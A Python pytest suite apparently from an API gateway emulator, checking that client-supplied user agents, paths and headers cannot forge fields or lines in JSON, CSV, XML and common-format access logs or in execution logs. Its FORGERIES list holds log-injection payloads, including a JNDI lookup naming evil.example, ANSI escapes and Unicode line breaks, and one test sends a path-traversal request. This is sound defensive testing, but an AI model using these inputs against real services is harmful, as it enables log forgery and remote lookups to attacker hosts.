"""What a client sends ends neither the line nor the field of a log that tells of it."""

from __future__ import annotations

import csv
import json
import time
import xml.etree.ElementTree as ElementTree

import pytest

from gateway.performers.log_lines import delivering
from gateway.snapshot import AccessLog, MethodSettings, RestIntegration, Route
from kernel.log_delivery.delivery import LogDelivery
from kernel.log_delivery.files import FileSink
from tests.gateway.plane import API_HOST, MOCK, Plane

HOST = {"Host": API_HOST}
AGENT = "$context.identity.userAgent"
GROUP = "arn:aws:logs:us-east-1:000000000000:log-group:/pets"
FORGERIES = [
    '", "status": "200", "x": "',
    "\\",
    '\\", "status": "200", "x": "\\',
    "x,200,admin",
    '"x","200"',
    "</agent><status>200</status><agent>",
    "&admin;",
    "]]>",
    "$context.identity.sourceIp",
    "%{jndi:ldap://evil.example}",
    "\x1b[2J\x1b[31m",
    "\x85forged",
    "\u2028forged\u2029",
    "\u202eforged",
    "\x7f\x9b31m",
]


@pytest.fixture
def plane(tokens):
    made = Plane(tokens)
    yield made
    made.pool.close()


@pytest.fixture
def server(plane, serve):
    return serve(plane.app)


def _line(plane, server, template, agent):
    """The line of a request by a client that names itself so."""
    log = AccessLog("poolgate:stdout", template)
    plane.show_rest(Route("GET /", MOCK), access_log=log)
    field = b"user-agent: " + agent.encode() + b"\r\n"
    server.raw(
        b"GET /prod HTTP/1.1\r\nhost: "
        + API_HOST.encode()
        + b"\r\n"
        + field
        + b"connection: close\r\n\r\n"
    )
    ((_, line),) = plane.lines
    return line


@pytest.mark.parametrize("agent", FORGERIES)
def test_a_json_line_has_the_members_of_its_format(plane, server, agent):
    template = f'{{"id": "$context.requestId", "agent": "{AGENT}", "status": "$context.status"}}'
    line = _line(plane, server, template, agent)

    entry = json.loads(line)
    assert set(entry) == {"id", "agent", "status"}
    assert entry["status"] == "200"
    assert line.isprintable()


@pytest.mark.parametrize("agent", FORGERIES)
def test_an_unquoted_value_forges_no_member(plane, server, agent):
    line = _line(plane, server, f'{{"id": "$context.requestId", "agent": {AGENT}}}', agent)

    try:
        entry = json.loads(line)
    except json.JSONDecodeError:
        return
    assert "status" not in entry


@pytest.mark.parametrize("agent", FORGERIES)
def test_a_csv_line_has_the_fields_of_its_format(plane, server, agent):
    for template in (
        f"$context.requestId,{AGENT},$context.status",
        f'$context.requestId,"{AGENT}",$context.status',
    ):
        plane.lines.clear()
        line = _line(plane, server, template, agent)

        (row,) = csv.reader([line], strict=True)
        assert len(row) == 3
        assert row[2] == "200"


@pytest.mark.parametrize("agent", FORGERIES)
def test_an_xml_line_has_the_elements_of_its_format(plane, server, agent):
    template = f"<r id='$context.requestId' b='{AGENT}'><agent>{AGENT}</agent></r>"
    line = _line(plane, server, template, agent)
    root = ElementTree.fromstring(line)  # noqa: S314 - our own line; entities are what is tested

    assert [each.tag for each in root.iter()] == ["r", "agent"]
    assert set(root.attrib) == {"id", "b"}


@pytest.mark.parametrize("agent", FORGERIES)
def test_a_common_log_line_stays_one_line_with_its_quotes(plane, server, agent):
    template = f'$context.identity.sourceIp "{AGENT}" $context.status $context.requestId'
    line = _line(plane, server, template, agent)

    assert line.isprintable()
    assert line.split('"')[0] == "127.0.0.1 "
    unescaped = line.replace("\\\\", "").replace('\\"', "")
    assert unescaped.count('"') == 2
    assert unescaped.rpartition('"')[2].startswith(" 200 ")


@pytest.mark.parametrize("agent", FORGERIES)
def test_no_line_becomes_an_entry_of_the_clients_making(plane, server, tmp_path, agent):
    line = _line(plane, server, f"{AGENT} $context.requestId", '{"message": "' + agent)
    logs = LogDelivery({"log_group": FileSink(tmp_path)})
    delivering(logs, print)(GROUP, line)
    logs.stop()

    (written,) = (tmp_path / "000000000000/us-east-1/%2Fpets.jsonl").read_text().split("\n")[:-1]
    assert json.loads(written) == {"message": line}


@pytest.mark.parametrize("path", ["/a%e2%80%a8x", "/(forged)%20Method%20completed", "/a%c2%85x"])
@pytest.mark.parametrize("level", ["INFO", "ERROR"])
def test_a_line_of_the_execution_log_stays_one(plane, server, upstream, path, level):
    said = b"a\nb\r\nc\x1b\xe2\x80\xa8"
    echo = b"HTTP/1.1 500 \r\nx-b: \xc2\x85\r\ncontent-length: 10\r\n\r\n" + said
    target = RestIntegration("HTTP_PROXY", method="GET", uri=f"{upstream(echo).url}/{{p}}")
    settings = {"": MethodSettings(logging_level=level, data_trace=True)}
    plane.show_rest(Route("GET /{p}", target), settings=settings)
    answer = server.get(f"/prod{path}?q=%0a%1b%e2%80%a9", headers={**HOST, "X-A": "\x85\x9b"})

    assert answer.status == 500
    ends = time.monotonic() + 5
    while not plane.lines and time.monotonic() < ends:
        time.sleep(0.01)
    ((_, text),) = plane.lines
    for line in text.split("\n"):
        message = json.loads(line)["message"]
        assert message.isprintable()
        assert message.startswith("(")


def test_a_client_names_no_destination(plane, server):
    log = AccessLog(GROUP, "$context.requestId $context.path")
    plane.show_rest(Route("GET /{p}", MOCK), access_log=log)
    server.get("/prod/..%2f..%2fetc", headers=HOST)
    server.get("/prod/x", headers={**HOST, "X-Amzn-Trace-Id": "../../x"})

    assert {arn for arn, _ in plane.lines} <= {GROUP}
